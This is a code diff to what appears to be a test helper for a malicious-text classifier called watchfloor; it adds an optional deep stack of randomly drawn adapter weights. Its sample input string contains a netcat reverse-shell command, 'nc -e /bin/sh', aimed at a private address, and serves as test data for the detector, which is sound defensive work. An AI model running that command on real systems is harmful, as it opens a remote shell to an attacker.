@@ -5,7 +5,7 @@ from pathlib import Path
 
 import numpy as np
 
-from watchfloor.experts.adapter import MAPS, Adapter
+from watchfloor.experts.adapter import MAPS, Adapter, Below
 from watchfloor.experts.backbone import RANK, Backbone
 from watchfloor.experts.card import Calibration, Card, Windows
 from watchfloor.experts.domain import Domain
@@ -18,7 +18,7 @@ TEXT = "select * from users where id = 1; nc -e /bin/sh 10.0.0.1 4444"
 
 
 def drawn(backbone: Backbone, name: str = "one", seed: int = 0, labels: tuple[str, ...] = ("malicious", "benign"),
-          windows: Windows = WINDOWS, limit: float = -1e9) -> Plugged:  # fmt: skip
+          windows: Windows = WINDOWS, limit: float = -1e9, *, deep: bool = False) -> Plugged:  # fmt: skip
     draw = np.random.default_rng(seed)
     width, axes = len(backbone.background.centre), backbone.background.whiten.shape[1]
 
@@ -28,11 +28,16 @@ def drawn(backbone: Backbone, name: str = "one", seed: int = 0, labels: tuple[st
     known = grams(backbone.pieces.split([TEXT])[0])
     lexicon = Lexicon(known, draw.integers(-90, 90, (len(known), len(labels))).astype(np.int8),
                       np.full(len(labels), 0.01, np.float32), np.eye(len(labels), dtype=np.float32))  # fmt: skip
-    lora = {key: (some(i * width, RANK), some(RANK, o * width)) for key, (i, o) in MAPS.items()}
+
+    def changes() -> dict[str, tuple[np.ndarray, np.ndarray]]:
+        return {key: (some(i * width, RANK), some(RANK, o * width)) for key, (i, o) in MAPS.items()}
+
+    blocks = int(backbone.pack.manifest["shape"]["blocks"]) - 1
+    below = Below.of([changes() for _ in range(blocks)]) if deep else None
     # In bytes already, as a pack keeps it: what is read back is the very same on every processor.
     head = draw.integers(-126, 127, (2 * width + SHAPE, len(labels)))
     head[0] = 127
-    adapter = Adapter(lora, some(width), (head * 0.006).astype(np.float32), some(len(labels)), lexicon)
+    adapter = Adapter(changes(), some(width), (head * 0.006).astype(np.float32), some(len(labels)), lexicon, below)
     card = Card(name, "choice", labels, "drawn", backbone.version, windows, Calibration(1.0, (0.0,) * len(labels), 0.0),
                 "", {}, {}, "2026-01-01")  # fmt: skip
     domain = Domain(np.zeros((1, axes), np.float32), np.ones((1, axes), np.float32), limit)
